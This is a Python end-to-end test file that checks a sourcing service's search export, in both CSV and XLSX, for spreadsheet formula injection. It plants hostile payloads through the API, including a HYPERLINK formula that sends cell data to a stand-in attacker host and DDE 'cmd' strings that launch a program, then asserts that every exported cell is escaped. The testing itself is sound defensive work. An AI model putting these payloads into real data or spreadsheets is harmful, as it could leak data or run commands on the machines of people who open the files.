"""Spreadsheet formula injection through the export: structures whose name, brand and address
begin with = + - @, a tab or a carriage return, written through the public API by staff, come
out of `/api/v1/search/export` escaped in every cell, in CSV and in XLSX. (`safe_cell` alone is
checked in tests/sourcing/test_export_and_market.py; here the whole way, through the index.)"""

from __future__ import annotations

import csv
import io
import zipfile
from typing import Any
from xml.etree import ElementTree

import httpx
import pytest

from services.sourcing.search.export import COLUMNS
from tests.e2e.test_services import System
from tests.support import wait_until

PAYLOADS = (
    '=HYPERLINK("http://attaquant.example/?d="&A1,"Cliquez")',
    "+33 1 02 03 04 05",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
LABELS = {name: label for name, label in COLUMNS if name in ("name", "brand", "address")}
SEARCH = {"kind": "ESAT", "department": "69"}
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@pytest.fixture(scope="module")
def hostile_structures(
    hostile_system: System, role_headers: dict[str, dict[str, str]]
) -> dict[int, dict[str, Any]]:
    """Six ESAT of the Rhône renamed by staff, each with one payload in every text field,
    as the catalog now holds them, once the index has them too."""
    hits = hostile_system.get(
        "/api/v1/search", params={**SEARCH, "per_page": len(PAYLOADS), "sort": "nom"}
    ).json()["hits"]
    stored = {}
    for hit, payload in zip(hits, PAYLOADS, strict=True):
        path = f"/api/v1/structures/{hit['id']}"
        etag = hostile_system.get(path).headers["etag"]
        changed = hostile_system.patch(
            path,
            {"name": payload, "brand": payload, "address": payload},
            {**role_headers["staff"], "If-Match": etag},
        )
        assert changed.status_code == 200, changed.text
        stored[hit["id"]] = hostile_system.get(path).json()

    def indexed() -> bool:
        found = hostile_system.get("/api/v1/search", params={**SEARCH, "per_page": 100}).json()
        names = {h["id"]: h["name"] for h in found["hits"]}
        return all(names.get(i) == s["name"] for i, s in stored.items())

    wait_until(indexed, timeout_s=30)
    return stored


def _escaped(cell: str, value: str) -> None:
    assert not cell.startswith(DANGEROUS), repr(cell)
    assert cell == "'" + value, (cell, value)


def test_csv_export_escapes_every_formula(
    hostile_system: System, hostile_structures: dict[int, dict[str, Any]]
) -> None:
    response = hostile_system.get("/api/v1/search/export", params={**SEARCH, "format": "csv"})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]  # the sources are a column, not a line
    assert len(body) == 31
    for row in body:
        assert not any(cell.startswith(DANGEROUS) for cell in row), row
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    for structure_id, stored in hostile_structures.items():
        row = by_id[structure_id]
        for field, label in LABELS.items():
            _escaped(row[label], stored[field])


def _xlsx_rows(content: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
        sheet = ElementTree.fromstring(workbook.read("xl/worksheets/sheet1.xml"))
        names = set(workbook.namelist())
        shared = (
            [
                "".join(t.text or "" for t in si.iter(f"{{{NS['x']}}}t"))
                for si in ElementTree.fromstring(workbook.read("xl/sharedStrings.xml"))
            ]
            if "xl/sharedStrings.xml" in names
            else []
        )
    rows = []
    for row in sheet.iterfind(".//x:sheetData/x:row", NS):
        cells = [""] * len(COLUMNS)
        for cell in row.iterfind("x:c", NS):
            column = _column(cell.get("r", ""))
            assert cell.find("x:f", NS) is None, ElementTree.tostring(cell)  # no formula at all
            kind = cell.get("t")
            assert kind in ("s", "inlineStr"), ElementTree.tostring(cell)  # text, never a number
            if kind == "s":
                cells[column] = shared[int(cell.findtext("x:v", "", NS))]
            else:
                cells[column] = "".join(t.text or "" for t in cell.iter(f"{{{NS['x']}}}t"))
        rows.append(cells)
    return rows


def _column(reference: str) -> int:
    """ "C12" → 2: empty cells are not written, so cells are placed by their reference."""
    letters = reference.rstrip("0123456789")
    index = 0
    for letter in letters:
        index = index * 26 + ord(letter) - ord("A") + 1
    return index - 1


def _xlsx_text(value: str) -> str:
    """How the workbook stores a control character: as an `_xHHHH_` escape."""
    return value.replace("\r", "_x000D_")


def test_xlsx_export_escapes_every_formula(
    hostile_system: System, hostile_structures: dict[int, dict[str, Any]]
) -> None:
    response = httpx.get(
        hostile_system.gateway.url + "/api/v1/search/export",
        params={**SEARCH, "format": "xlsx"},
        timeout=30,
    )
    assert response.status_code == 200
    header, *body = [row for row in _xlsx_rows(response.content) if any(row)]
    assert len(body) == 31
    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in body}
    for row in body:
        assert not any(cell.startswith(DANGEROUS) for cell in row), row
    for structure_id, stored in hostile_structures.items():
        row = by_id[structure_id]
        for field, label in LABELS.items():
            assert row[label] in ("'" + stored[field], "'" + _xlsx_text(stored[field]))
